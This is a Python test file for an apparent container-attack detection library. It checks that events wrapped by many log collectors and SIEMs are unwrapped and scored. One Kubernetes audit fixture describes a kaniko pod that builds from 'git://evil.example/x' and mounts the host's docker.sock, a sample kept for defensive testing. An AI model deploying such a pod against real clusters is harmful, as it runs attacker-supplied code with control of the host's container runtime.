"""What collectors, consoles and queries wrap events in is opened; what they share is put in each.

A line that such a thing scores by is never passed over.
"""

from __future__ import annotations

import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from t1612core import (
    AUTO,
    HARDENED,
    MDE,
    Detector,
    EventError,
    Schema,
    UnrecognisedError,
    events_from,
)
from t1612core.knowledge.exports import SHARED
from t1612core.telemetry.spread import spread

from .stream.spelling import prefilter_of

LINE = "docker build --no-cache -t app:1 -f /tmp/build/Dockerfile ."
ROW = {
    "Timestamp": "2026-03-02T08:06:43Z",
    "DeviceName": "web-07",
    "FileName": "docker",
    "ProcessCommandLine": LINE,
}
ALERT = {
    "rule": "A builder ran",
    "priority": "Notice",
    "time": "2026-03-02T08:06:43Z",
    "hostname": "web-07",
    "output": "-",
    "output_fields": {"evt.type": "execve", "proc.name": "docker", "proc.cmdline": LINE},
}
COLUMNS = {"path": "/usr/bin/docker", "cmdline": LINE, "time": "1772438803"}
RESULT = {"name": "pack_x_process_events", "hostIdentifier": "web-07", "unixTime": 1772438803}
OSQUERY = {**RESULT, "columns": COLUMNS}
DEBUG = 'time="2026-03-02T08:06:43Z" level=debug msg="Calling POST /v1.43/build?t=x"'
RECORD = 'type=EXECVE msg=audit(1772438803.5:7): argc=2 a0="docker" a1="build"'
ELASTIC = {"@timestamp": "2026-03-02T08:06:43Z", "ecs": {"version": "8.17.0"}}
BEHAVIOUR = {"filename": "docker", "cmdline": LINE, "user_name": "root", "behavior_id": "1"}
CONTEXT = {"FileName": "docker", "CommandLine": LINE, "UserName": "root", "Scenario": "x"}
DETECTION = {"ID": "ldt:1", "System": "web-07"}
EVENT_JSON = json.dumps(ALERT)
LABELS = {"host": "web-07", "job": "x"}
AT = "1772438803000000000"
LOG = {"time": AT, "host": "web-07"}


def telemetry(*records: dict[str, Any]) -> dict[str, Any]:
    host = {"key": "host.name", "value": {"stringValue": "web-07"}}
    held = [{"timeUnixNano": AT, **each} for each in records]
    return {
        "resourceLogs": [
            {"resource": {"attributes": [host]}, "scopeLogs": [{"scope": {}, "logRecords": held}]}
        ]
    }


def any_value(value: Any) -> dict[str, Any]:
    """Write a value as OpenTelemetry does."""
    if isinstance(value, dict):
        pairs = [{"key": key, "value": any_value(each)} for key, each in value.items()]
        return {"kvlistValue": {"values": pairs}}
    if isinstance(value, list):
        return {"arrayValue": {"values": [any_value(each) for each in value]}}
    return {"stringValue": value}


STREAMS = [{"stream": LABELS, "values": [[AT, EVENT_JSON], [AT, DEBUG]]}]
LINES = [ALERT, {**LOG, "message": DEBUG}]

WRAPPED: dict[str, tuple[Any, list[Any]]] = {
    "Splunk's raw text": (
        {"_raw": EVENT_JSON, "_time": "x", "sourcetype": "falco", "source": "x"},
        [ALERT],
    ),
    "Splunk's raw text beside columns": (
        {
            "_raw": EVENT_JSON,
            "_time": "x",
            "sourcetype": "falco",
            "priority": "Notice",
            "rule": "x",
        },
        [ALERT],
    ),
    "Splunk's collector": (
        {"time": 1772438803, "host": "a", "sourcetype": "x", "fields": {}, "event": ALERT},
        [{"_time": 1772438803, "host": "a", **ALERT}],
    ),
    "Splunk's collector, a text": (
        {"time": 1772438803, "host": "web-07", "event": DEBUG},
        [{"_time": 1772438803, "host": "web-07", "_raw": DEBUG}],
    ),
    "Splunk's collector, JSON in a text": ({"event": EVENT_JSON, "index": "x"}, [ALERT]),
    "Elastic's original": ({**ELASTIC, "event": {"original": EVENT_JSON}}, [ALERT]),
    "Elastic's original, flat": ({**ELASTIC, "event.original": EVENT_JSON}, [ALERT]),
    "Elastic's message": ({**ELASTIC, "message": EVENT_JSON}, [ALERT]),
    "Defender's named queries": (
        {"scheduled_job": [ROW], "registry_entry": [ROW, ROW], "nothing": [], "failed": None},
        [ROW] * 3,
    ),
    "named queries under results": ({"query": "x", "results": {"process": [ROW]}}, [ROW]),
    "named queries of two levels": ({"a": {"b": [ROW], "c": []}, "d": [ROW]}, [ROW] * 2),
    "alerts": ({"alerts": [ROW]}, [ROW]),
    "resources": ({"meta": {}, "resources": [ROW], "errors": []}, [ROW]),
    "osquery's snapshot": (
        {**RESULT, "action": "snapshot", "snapshot": [COLUMNS] * 2},
        [{**OSQUERY, "action": "snapshot"}] * 2,
    ),
    "osquery's batch": (
        {**RESULT, "diffResults": {"added": [COLUMNS], "removed": ""}},
        [{**OSQUERY, "action": "added"}],
    ),
    "osquery's batch with rows that left": (
        {**RESULT, "diffResults": {"added": [COLUMNS], "removed": [{"path": "x"}]}},
        [
            {**OSQUERY, "action": "added"},
            {**RESULT, "columns": {"path": "x"}, "action": "removed"},
        ],
    ),
    "Falcon's behaviours": (
        {"device": {"hostname": "web-07"}, "behaviors": [BEHAVIOUR] * 2, "x": 1},
        [{"device": {"hostname": "web-07"}, "behaviors": [BEHAVIOUR]}] * 2,
    ),
    "XSOAR's behaviours": (
        {**DETECTION, "Behavior": [CONTEXT] * 2},
        [{"System": "web-07", "Behavior": [CONTEXT]}] * 2,
    ),
    "CloudWatch's export": (
        {
            **{"messageType": "DATA_MESSAGE", "logGroup": "g", "logStream": "s"},
            "logEvents": [
                {"id": "1", "timestamp": 1, "message": EVENT_JSON},
                {"id": "2", "timestamp": 2, "message": RECORD},
            ],
        },
        [ALERT, {"id": "2", "timestamp": 2, "message": RECORD}],
    ),
    "what is pushed to Loki": ({"streams": STREAMS}, LINES),
    "what Loki's command prints": (
        {"labels": LABELS, "line": EVENT_JSON, "timestamp": "2026-03-02T08:06:43Z"},
        [ALERT],
    ),
    "what Loki's command prints of dockerd": (
        {"labels": {"node_name": "web-07"}, "line": DEBUG, "timestamp": AT},
        [{**LOG, "message": DEBUG}],
    ),
    "what Loki answers": (
        {"status": "success", "data": {"resultType": "streams", "result": STREAMS, "stats": {}}},
        LINES,
    ),
    "OpenTelemetry": (
        telemetry({"body": {"stringValue": EVENT_JSON}}, {"body": {"stringValue": DEBUG}}),
        LINES,
    ),
    "OpenTelemetry, an object": (telemetry({"body": any_value(ROW)}), [ROW]),
    "OpenTelemetry, attributes": (
        telemetry({"attributes": any_value(ROW)["kvlistValue"]["values"], "body": {}}),
        [{**ROW, **LOG, "message": None}],
    ),
    "OpenTelemetry, a list": (
        telemetry({"body": any_value({"a": ["b", {"c": "d"}]})}),
        [{"a": ["b", {"c": "d"}]}],
    ),
}
DETECTORS = {each.name: Detector(schema=each) for each in (AUTO, MDE)}
AUDIT = {
    "kind": "Event",
    "apiVersion": "audit.k8s.io/v1",
    "stage": "ResponseComplete",
    "requestURI": "/api/v1/namespaces/x/pods",
    "verb": "create",
    "objectRef": {"resource": "pods", "namespace": "x"},
    "requestObject": {
        "spec": {
            "nodeName": "web-07",
            "containers": [
                {
                    "image": "gcr.io/kaniko-project/executor:latest",
                    "args": ["--context=git://evil.example/x"],
                }
            ],
            "volumes": [{"hostPath": {"path": "/var/run/docker.sock"}}],
        }
    },
}
AZURE: dict[str, dict[str, Any]] = {
    "Azure's diagnostics": {
        **{"TimeGenerated": "x", "Category": "kube-audit", "Type": "AzureDiagnostics"},
        "log_s": json.dumps(AUDIT),
    },
    "Azure's event hub": {
        **{"time": "x", "category": "kube-audit-admin", "operationName": "x"},
        "properties": {"log": json.dumps(AUDIT) + "\n", "stream": "stdout", "pod": "x"},
    },
}
SYSMON = (
    "<Event><System><Provider Name='Linux-Sysmon'/><EventID>1</EventID><Computer>web-07</Computer>"
    "</System><EventData><Data Name='Image'>/usr/bin/docker</Data>"
    f"<Data Name='CommandLine'>{LINE}</Data></EventData></Event>"
)
SYSLOG = {"TimeGenerated": "x", "Type": "Syslog", "Computer": "web-07"}
QUOTED: dict[str, tuple[Any, list[Any]]] = {
    "Sysmon in Sentinel's Syslog": ({**SYSLOG, "SyslogMessage": SYSMON}, [{"_raw": SYSMON}]),
    "dockerd in Sentinel's Syslog": (
        {**SYSLOG, "SyslogMessage": DEBUG},
        [{"_raw": DEBUG, "host": "web-07"}],
    ),
    "Falco in Sentinel's ContainerLogV2": (
        {"Type": "ContainerLogV2", "LogMessage": EVENT_JSON},
        [ALERT],
    ),
    "Falco as an object": ({"Type": "ContainerLogV2", "LogMessage": ALERT}, [ALERT]),
    "Falco in ContainerLog": ({"Type": "ContainerLog", "LogEntry": EVENT_JSON}, [ALERT]),
    "XML in a message": ({"message": SYSMON, "@timestamp": "x"}, [{"_raw": SYSMON}]),
    **{name: (event, [event]) for name, event in AZURE.items()},
}
WRAPPED |= QUOTED
SCORING = [name for name in WRAPPED if name != "OpenTelemetry, a list"]


@pytest.mark.parametrize("name", WRAPPED)
def test_it_is_opened(name: str) -> None:
    value, events = WRAPPED[name]

    assert events == list(events_from(value))
    assert events * 2 == list(events_from(json.dumps([value, value])))


@pytest.mark.parametrize("name", SCORING)
def test_what_it_holds_is_scored_on_its_host(name: str) -> None:
    found = list(DETECTORS["auto"].scan_ndjson(io.BytesIO(json.dumps(WRAPPED[name][0]).encode())))

    assert found
    assert {"web-07"} >= {each.finding.host for each in found if each.finding.host}


@pytest.mark.parametrize("is_plain", [True, False], ids=["re", "hyperscan"])
@pytest.mark.parametrize("schema", [AUTO, MDE], ids=["auto", "mde"])
@pytest.mark.parametrize("name", SCORING)
def test_its_line_is_never_passed_over(name: str, schema: Schema, is_plain: bool) -> None:
    line = json.dumps(WRAPPED[name][0]).encode()
    detector, scores = DETECTORS[schema.name], []
    for event in detector.unwrap([json.loads(line)]):
        try:
            scores.append(detector.score(event))
        except EventError:
            assert schema is MDE

    made = prefilter_of(HARDENED, schema, is_plain=is_plain)
    assert not any(scores) or any(True for _ in made.suspects(line, 0, len(line)))
    assert any(scores) or schema is MDE


@pytest.mark.parametrize(
    "value",
    [
        # Known and of a kind: what it carries besides is not looked for.
        {**ELASTIC, "event": {"category": ["web"], "original": EVENT_JSON}},
        {"_time": "x", "sourcetype": "y", "process": "ls", "_raw": EVENT_JSON},
        {**OSQUERY, "snapshot": [COLUMNS]},
        # What a row that is scored has besides, and what a table quotes that nobody knows.
        {**ROW, "LogMessage": EVENT_JSON},
        {**ROW, "Type": "DeviceProcessEvents", "LogMessage": EVENT_JSON},
        {**SYSLOG, "SyslogMessage": "session opened"},
        {**SYSLOG, "SyslogMessage": '{"a": 1}'},
        {**SYSLOG, "SyslogMessage": f"[{EVENT_JSON}, {EVENT_JSON}]"},
        {**SYSLOG, "SyslogMessage": "x" * (5 << 20)},
        {"Type": "ContainerLogV2", "LogMessage": {"a": 1}},
        {"message": "<Event>x", "@timestamp": "x"},
        # Other things of these names.
        {"event": {"a": 1}, "unknown": 1},
        {"event": 7},
        {"snapshot": ["a"], "a": 1},
        {"diffResults": None, "a": 1},
        {"diffResults": {"x": [ROW]}, "a": 1},
        {"diffResults": {"added": "x"}},
        {"snapshot": [], "a": 1},
        {"behaviors": ["x", "y"], "a": 1},
        {"stream": "stdout", "values": [["1", "x"]]},
        {"stream": LABELS, "values": ["x"]},
        {"stream": LABELS, "a": 1},
        {"labels": LABELS, "line": 7},
        {"labels": "x", "line": "x"},
        {"data": {"resultType": "matrix", "result": []}, "a": 1},
        {"data": {"resultType": "streams", "result": ["x"]}, "a": 1},
        {"resourceLogs": ["x"], "a": 1},
        {"rows": {"a": [ROW], "b": 1}},
        {"a": {"b": {"c": [ROW]}}},
        {"a": [ROW, "x"]},
        {"a": [], "b": []},
    ],
    ids=lambda value: str(value)[:99],
)
def test_it_is_left_whole(value: dict[str, Any]) -> None:
    assert [value] == list(events_from(value))


@pytest.mark.parametrize("log", ["x", "[]", '{"apiVersion": "v1"}', None])
def test_what_is_no_audit_of_kubernetes_is_not_called_clean(log: str | None) -> None:
    detector = DETECTORS["auto"]
    with pytest.raises(UnrecognisedError):
        detector.kind_of({**AZURE["Azure's event hub"], "properties": {"log": log, "a": 1}})


def test_odd_values_of_open_telemetry_give_what_can_be_read() -> None:
    odd = telemetry({"body": {"arrayValue": {"values": "x"}}}, {"body": any_value(["x"])})
    odd["resourceLogs"] += [{}, {"scopeLogs": [{}, {"logRecords": ["x"]}]}]

    assert [
        {**LOG, "message": None},
        {**LOG, "message": ["x"]},
        {},
        {},
        {"logRecords": ["x"]},
    ] == list(events_from(odd))


@pytest.mark.parametrize(
    "value",
    [
        {**RESULT, "snapshot": []},
        {**RESULT, "diffResults": {"added": "", "removed": ""}},
        {"status": "success", "data": {"resultType": "streams", "result": []}},
        {"stream": LABELS, "values": []},
        {"resourceLogs": []},
        {"logEvents": []},
    ],
    ids=str,
)
def test_an_answer_without_events_is_empty(value: dict[str, Any]) -> None:
    assert [] == list(events_from(value))


def test_a_deep_value_of_open_telemetry_is_read_up_to_a_bound() -> None:
    deep: Any = "x"
    for _ in range(3000):
        deep = {"arrayValue": {"values": [deep]}}
    (event,) = events_from(telemetry({"body": deep}))

    assert str(event["message"]).count("[") == 33


PARTS = st.recursive(
    st.none() | st.integers() | st.text(max_size=3) | st.just(EVENT_JSON),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                [
                    *sorted(SHARED),
                    *("values", "added", "removed", "resource", "attributes", "key", "value"),
                    *("scopeLogs", "logRecords", "body", "stringValue", "kvlistValue"),
                ]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=30,
)


@given(st.dictionaries(st.sampled_from(sorted(SHARED)), PARTS, max_size=3))
def test_any_object_is_spread_or_left(value: dict[str, Any]) -> None:
    found = spread(value)

    assert found is None or all(isinstance(each, dict) for each in found)
